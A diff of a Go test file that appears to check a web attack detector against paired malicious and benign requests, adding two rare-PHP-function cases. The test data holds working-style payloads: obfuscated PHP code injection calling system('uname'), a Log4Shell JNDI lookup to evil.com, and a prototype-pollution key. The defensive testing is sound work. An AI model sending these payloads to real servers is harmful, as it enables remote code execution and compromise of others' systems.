@@ -160,6 +160,8 @@ func TestPHPLog4jProtoBoundaries(t *testing.T) {
 		{"php-interpolation-call", get("/g?foo=%24%7B%27ff%27%7D"), get("/g?greeting=Hello+%24%7Bfirst_name%7D")},
 		{"php-interpolation-call", get("/g?x=$y+=+%27sys%27.%27tem%27%3b%28$y%29%28%27uname%27%29%3B"), get("/g?x=see+(figure+2)+(left)")},
 		{"php-rare-function", get("/g?t=tidy_parse_string%28%29"), get("/g?t=tidy+up+the+string")},
+		{"php-rare-function", get("/g?t=ldap_get_entries%28%29"), get("/g?t=ldap_get_entries+is+slow")},
+		{"php-rare-function", get("/g?t=sodium_crypto_box_keypair+%28"), get("/g?t=sodium+(salt)")},
 		{"php-data-wrapper", get("/g?ssrf=data:text/plain;base64,SSBsb3ZlIFBIUAo="), post("/a", jsonCT, `{"avatar":"data:image/png;base64,iVBORw0KGgo="}`)},
 		{"log4shell-entity-brace", post("/p", jsonCT, `{"foo":"$&LBRACE;jndi:ldap://evil.com/x}"}`), post("/p", jsonCT, `{"foo":"price in $&amp; brace"}`)},
 		{"proto-pollution-key", get("/g?a[constructor][prototype]=image"), get("/g?a[constructor]=builder")},
